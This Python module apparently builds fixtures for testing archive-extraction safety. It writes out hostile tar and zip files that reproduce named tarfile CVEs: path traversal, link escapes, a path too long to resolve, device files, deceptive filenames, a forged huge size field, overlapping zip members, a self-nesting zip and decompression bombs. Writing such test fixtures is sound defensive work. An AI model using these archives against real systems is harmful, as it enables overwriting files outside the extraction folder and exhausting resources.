"""Makes hostile archives: each is what a published attack does, written from its description, in a few bytes.

The attacks on `tarfile`'s extraction are CVE-2024-12718 (marks and rights of files outside), CVE-2025-4138 and
CVE-2025-4330 (links whose checked target is not the one followed), CVE-2025-4435 (members refused and yet written) and
CVE-2025-4517 (a path too long to be resolved, so that it is not checked).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import zstandard

GOOD = b"2026-01-29T10:00:00Z INFO all is well\n"
ARCHIVES: dict[str, Callable[[Path], bytes]] = {}
"""By name what makes one; it is given a folder outside that nothing may touch."""
BOMBS: dict[str, Callable[[], bytes]] = {}


def archive(make: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    ARCHIVES[make.__name__] = make
    return make


def _tar(members: Iterator[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _file(name: str, data: bytes = GOOD, **more: object) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    for field, value in more.items():
        setattr(info, field, value)
    return info, data


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
    return _file(name, b"", type=kind, linkname=target)


@archive
def traversal(outside: Path) -> bytes:
    names = ["../" * 12 + f"{outside}/a", f"{outside}/b", f"x/../../{outside}/c", f"./{outside}/d", "..", "/"]
    return _tar(iter([_file(name) for name in names]))


@archive
def a_link_to_a_folder_and_a_file_through_it(outside: Path) -> bytes:
    return _tar(iter([_link("way", str(outside)), _file("way/a"), _link("way2", "way"), _file("way2/b")]))


@archive
def a_hard_link_and_a_file_written_over_it(outside: Path) -> bytes:
    target = str(outside / "kept")
    return _tar(iter([_link("same", target, tarfile.LNKTYPE), _file("same", b"forged\n")]))


@archive
def cve_2024_12718_marks_and_rights_outside(outside: Path) -> bytes:
    far = str(outside / "kept")
    return _tar(
        iter(
            [_file(far, mode=0o777, mtime=0), _file("../" * 12 + far, b"", type=tarfile.DIRTYPE, mode=0o777)]
        )
    )


@archive
def cve_2025_4138_and_4330_links_that_lead_elsewhere_than_checked(outside: Path) -> bytes:
    deep = "/".join(["d"] * 16)
    return _tar(
        iter(
            [
                _file(deep, b"", type=tarfile.DIRTYPE),
                _link("a", deep + "/" + "../" * 15),
                _link("b", "a/../../" + str(outside)),
                _link("c", f"b/../{outside}/kept", tarfile.LNKTYPE),
                _file("b/d"),
            ]
        )
    )


@archive
def cve_2025_4435_a_refused_member_and_its_like(outside: Path) -> bytes:
    return _tar(
        iter([_link("x", str(outside)), _file("x", b"", type=tarfile.DIRTYPE), _file("x/a"), _file("x/a")])
    )


@archive
def cve_2025_4517_a_path_too_long_to_be_resolved(outside: Path) -> bytes:
    step, members, at = "s" * 240, [], ""
    for letter in "abcdefghijklmnop":
        members += [_file(at + step, b"", type=tarfile.DIRTYPE), _link(at + letter, step)]
        at += letter + "/"
    long = "/".join("abcdefghijklmnop") + "/" + "l" * 254
    members += [_link(long, "../" * 16), _link("out", long + "/../../../.." + str(outside)), _file("out/a")]
    return _tar(iter(members))


@archive
def devices_pipes_and_sockets(_: Path) -> bytes:
    kinds = (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE, b"s")
    return _tar(
        iter(
            [
                *(_file(f"n{n}", b"", type=kind, devmajor=1, devminor=3) for n, kind in enumerate(kinds)),
                _file("good"),
            ]
        )
    )


@archive
def names_that_lie_to_the_eye(_: Path) -> bytes:
    names = [
        "\u202egol.exe",
        "a\x1b[2Jb.log",
        "a\rb",
        "a\nb",
        "\u200b",
        "a\x00b",
        "CON",
        "nul.txt",
        "a:b",
        " ",
        "\udcff",
    ]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT, errors="surrogateescape") as tar:
        for name in names:
            info, data = _file(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


@archive
def a_size_that_cannot_be(_: Path) -> bytes:
    head = bytearray(_tar(iter([_file("good"), _file("huge")])))
    head[1024 + 124 : 1024 + 136] = b"\x80" + bytes(3) + struct.pack(">Q", 1 << 62)
    head[1024 + 148 : 1024 + 156] = b" " * 8
    head[1024 + 148 : 1024 + 156] = f"{sum(head[1024:1536]):06o}\0 ".encode()
    return bytes(head)


@archive
def a_zip_whose_members_overlap(_: Path) -> bytes:
    """One run of compressed zeros that forty members of the directory share."""
    packed, size = _deflated(4 << 20), 4 << 20
    check = zlib.crc32(bytes(size))
    local = (
        struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, check, len(packed), size, 1, 0) + b"z" + packed
    )
    row = struct.pack(
        "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, check, len(packed), size, 1, 0, 0, 0, 0, 0, 0
    )
    directory = b"".join(row + bytes([65 + n]) for n in range(40))
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 40, 40, len(directory), len(local), 0)
    return local + directory + end


@archive
def a_zip_that_holds_itself(_: Path) -> bytes:
    """As deep as any quine gets before a depth stops it: forty times in itself."""
    data = GOOD
    for _step in range(40):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as outer:
            outer.writestr("r.zip", data)
        data = out.getvalue()
    return data


@archive
def a_zip_with_names_of_another_system(outside: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in ("..\\..\\a", f"{outside}/b", "../" * 9 + "c", "C:\\d"):
            made.writestr(zipfile.ZipInfo(name), GOOD)
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, str(outside))
    return out.getvalue()


def _deflated(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made, made.open("zeros", "w") as member:
        for _ in range(200):
            member.write(bytes(1 << 20))
    return out.getvalue()


def _in_steps(packer: object, finish: str) -> bytes:
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(200)), getattr(packer, finish)()])  # type: ignore[attr-defined]


BOMBS["zip"] = _zip
BOMBS["gzip"] = lambda: gzip.compress(bytes(200 << 20))
BOMBS["bzip2"] = lambda: _in_steps(bz2.BZ2Compressor(), "flush")
BOMBS["xz"] = lambda: _in_steps(lzma.LZMACompressor(preset=0), "flush")
BOMBS["zstd"] = lambda: zstandard.ZstdCompressor(level=1).compress(bytes(200 << 20))
BOMBS["gzip in gzip"] = lambda: gzip.compress(gzip.compress(bytes(200 << 20), 1), 1)
BOMBS["tar in gzip"] = lambda: gzip.compress(_tar(iter([_file("zeros", bytes(200 << 20))])), 1)
